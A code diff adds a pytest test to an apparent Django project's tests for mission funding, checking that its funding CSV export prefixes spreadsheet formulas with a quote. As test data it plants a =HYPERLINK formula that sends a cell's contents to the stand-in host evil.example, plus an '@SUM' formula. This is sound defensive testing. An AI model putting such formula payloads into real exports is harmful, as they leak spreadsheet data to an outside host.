@@ -1,5 +1,7 @@
 """Mission state transitions, funding totals, and the métaplan board's saving rules."""
 
+import csv
+import io
 from decimal import Decimal
 
 import pytest
@@ -84,6 +86,20 @@ def test_funding_csv_has_one_row_per_line_with_the_same_total(client, users, mis
     assert len(rows) == 1 + mission.funding_lines.count()
     amounts = [Decimal(row.split(",")[4]) for row in rows[1:]]
     assert sum(amounts) == services.funding_total(mission)
+
+
+def test_funding_csv_quotes_text_a_spreadsheet_would_run(client, users, mission, organisations):
+    link = '=HYPERLINK("https://evil.example/?d="&A1,"Détails")'
+    SupportMission.objects.filter(pk=mission.pk).update(title=link)
+    organisations["dreets"].name = "@SUM(1+1)"
+    organisations["dreets"].save()
+    client.force_login(users["staff"])
+    response = client.get(reverse("accompagnements:funding-csv"))
+    text = response.content.decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert {row["mission"] for row in rows} == {"'" + link}
+    assert "'@SUM(1+1)" in {row["funder"] for row in rows}
+    assert {row["amount"] for row in rows} == {"12000.50", "8000.00"}  # numbers stay numbers
 
 
 def test_board_arrangement_is_saved_in_order(workshop):
